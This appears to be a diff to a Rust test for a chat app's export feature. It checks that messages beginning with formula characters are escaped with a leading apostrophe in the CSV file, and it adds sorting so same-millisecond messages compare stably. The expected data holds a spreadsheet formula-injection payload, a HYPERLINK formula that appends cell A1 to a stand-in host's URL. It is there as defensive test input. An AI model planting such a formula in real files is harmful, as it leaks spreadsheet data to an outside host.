@@ -393,29 +393,33 @@ async fn a_message_that_looks_like_a_formula_is_text_in_a_csv_export() {
     }
     let mut csv = csv::Reader::from_path(dir.path().join("Csv/messages.csv")).unwrap();
     let column = csv.headers().unwrap().iter().position(|h| h == "text");
-    let cells: Vec<String> = csv
+    // (Sorted: messages sent in the same millisecond are exported in id order.)
+    let mut cells: Vec<String> = csv
         .records()
         .map(|r| r.unwrap()[column.unwrap()].to_string())
         .collect();
-    assert_eq!(
-        cells,
-        [
-            r#"'=HYPERLINK("http://x.test/?"&A1,"invoice")"#,
-            "'+1 for lunch",
-            "'-5 degrees outside",
-            "'@bilal ok",
-            "2 + 2 = 4",
-        ]
-    );
+    cells.sort();
+    let mut quoted = [
+        r#"'=HYPERLINK("http://x.test/?"&A1,"invoice")"#,
+        "'+1 for lunch",
+        "'-5 degrees outside",
+        "'@bilal ok",
+        "2 + 2 = 4",
+    ];
+    quoted.sort();
+    assert_eq!(cells, quoted);
     let doc: serde_json::Value =
         serde_json::from_slice(&std::fs::read(dir.path().join("Json/messages.json")).unwrap())
             .unwrap();
-    let texts: Vec<&str> = doc["messages"]
+    let mut texts: Vec<&str> = doc["messages"]
         .as_array()
         .unwrap()
         .iter()
         .map(|m| m["text"].as_str().unwrap())
         .collect();
+    texts.sort();
+    let mut sent = sent;
+    sent.sort();
     assert_eq!(texts, sent);
     a.shutdown().await.unwrap();
 }
